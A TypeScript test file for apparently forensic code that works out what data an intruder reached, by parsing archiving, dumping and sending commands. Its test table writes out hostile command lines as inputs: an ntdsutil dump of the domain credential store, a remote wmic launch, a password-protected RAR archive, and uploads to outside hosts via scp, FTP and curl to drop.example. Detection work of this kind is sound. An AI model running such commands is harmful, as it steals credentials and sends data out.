import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { Act } from '../../src/intrusion/reached/act.ts'
import { estateObjects } from '../../src/intrusion/reached/estate-objects.ts'
import { isArchiveName, packingOf, wholeArchive } from '../../src/intrusion/reached/packing.ts'
import { reachedIn } from '../../src/intrusion/reached/reached-in.ts'
import { scopeOf } from '../../src/intrusion/reached/scope.ts'
import { groupActs } from '../../src/intrusion/reached/select-acts.ts'
import type { Story } from '../../src/intrusion/index.ts'
import { readInventoryToml } from '../../src/inventory/index.ts'

const cases = join(import.meta.dirname, '../cases/intrusion/reached')

interface Given {
  readonly inventory: string
  readonly story: Story
  readonly acts: readonly Act[]
}

function given(name: string): Given {
  return JSON.parse(readFileSync(join(cases, name, 'in.json'), 'utf8')) as Given
}

function reached({ inventory, story, acts }: Given): Story['reached'] {
  const objects = estateObjects(readInventoryToml(inventory, 'inventory.toml').entries)
  return reachedIn({ scope: scopeOf(story, []), groups: groupActs(acts), objects })
}

for (const name of readdirSync(cases)) {
  test(`data reached: ${name}`, () => {
    const told = reached(given(name)).map(({ what, text, cites, data }) => ({
      what,
      certainty: data?.certainty,
      object: data?.object,
      categories: data?.categories,
      rows: data?.rows,
      bytes: data?.bytes,
      text,
      cites: cites.map((cite) => (cite.kind === 'exhibit' && cite.at.kind === 'line' ? `${cite.file} ${cite.at.n}` : cite.kind)),
    }))
    expect(JSON.parse(JSON.stringify(told))).toEqual(JSON.parse(readFileSync(join(cases, name, 'want.json'), 'utf8')))
  })

  test(`data reached, in any order of the records: ${name}`, () => {
    const one = given(name)
    const told = reached(one)
    fc.assert(
      fc.property(fc.shuffledSubarray([...one.acts], { minLength: one.acts.length }), (acts) => {
        expect(reached({ ...one, acts }).map((item) => item.text)).toEqual(told.map((item) => item.text))
      }),
      { numRuns: 20 },
    )
  })
}

test('without an inventory what was read is still told, with no category and no object', () => {
  const told = reached({ ...given('dump-packed-and-gone'), inventory: '' })
  const read = told.find((one) => one.what === 'cdr.voice_203102 on db-1')
  expect(read?.data).toMatchObject({ certainty: 'staged', categories: [] })
  expect(read?.data?.object).toBeUndefined()
})

test('without records nothing is said to be read: what lies on a compromised host could be reached', () => {
  const { inventory, story } = given('dump-packed-and-gone')
  const host = { name: 'db-1', status: 'compromised' as const, cites: [] }
  const told = reached({ inventory, story: { ...story, hosts: [...story.hosts, host] }, acts: [] })
  expect(told.map((one) => one.data?.certainty)).toEqual(['could be reached'])
  expect(told[0]?.text).toContain('no record of reading it was found')
})

test.each([
  [
    'rar.exe a -hpx -v200m C:\\a\\v.rar C:\\a\\v.dmp',
    'rar.exe',
    { kind: 'archive', into: 'C:\\a\\v.rar', of: ['C:\\a\\v.dmp'], part: 209_715_200 },
  ],
  ['C:\\t\\renamed.exe a -hpx C:\\a\\v.rar C:\\a\\*', 'renamed.exe', { kind: 'archive', into: 'C:\\a\\v.rar', of: ['C:\\a\\*'] }],
  ['tar czf /tmp/x.tgz /var/cdr', 'tar', { kind: 'archive', into: '/tmp/x.tgz', of: ['/var/cdr'] }],
  ['"C:\\p\\pg_dump.exe" -t cdr.voice --file=C:\\v.dmp', 'pg_dump.exe', { kind: 'dump', into: 'C:\\v.dmp', of: ['cdr.voice'] }],
  ['ntdsutil "ac i ntds" "ifm" "create full C:\\x" q q', 'ntdsutil.exe', { kind: 'dump', into: 'C:\\x', of: ['ntds.dit'] }],
  ["wmic /node:dc-1 process call create \"ntdsutil 'ac i ntds' ifm 'create full C:\\x' q q\"", 'wmic.exe', undefined],
  ['scp -P 22 /srv/cdr.csv one@198.51.100.7:/in', 'scp', { kind: 'sending', into: 'one@198.51.100.7:/in', of: ['/srv/cdr.csv'] }],
  [
    'copy running-config ftp://198.51.100.7/a.cfg <cr>',
    'copy',
    { kind: 'sending', into: 'ftp://198.51.100.7/a.cfg', of: ['running-config'] },
  ],
  [
    'curl -T /tmp/x.tgz https://drop.example/up',
    'curl',
    { kind: 'sending', into: 'https://drop.example/up', of: ['/tmp/x.tgz'] },
  ],
  ['copy C:\\a.txt D:\\b.txt', 'cmd.exe', undefined],
  ['notepad.exe v.rar', 'notepad.exe', undefined],
  ['psql.exe -h db-1 -c "select 1"', 'psql.exe', undefined],
  ['curl https://files.example/a.zip', 'curl', undefined],
])('what %s packs or sends', (line, program, packing) => {
  expect(packingOf(line, program)).toEqual(packing)
})

test('parts of an archive are told from other files', () => {
  expect(['v.part12.rar', 'v.r07', 'v.7z.001', 'v.rar'].map((name) => wholeArchive(name))).toEqual([
    'v.rar',
    'v.rar',
    'v.7z',
    'v.rar',
  ])
  expect(['v.part1.rar', 'v.zip', 'v.7z.001'].every(isArchiveName)).toBe(true)
  expect(['v.docx', 'rar', 'partner.txt'].some(isArchiveName)).toBe(false)
})

test('a command line of any text is read in no time', () => {
  fc.assert(fc.property(fc.string({ maxLength: 400 }), (text) => void packingOf(text, text)))
  expect(packingOf(`rar a ${'-v'.repeat(50_000)}`, 'rar')).toBeUndefined()
})
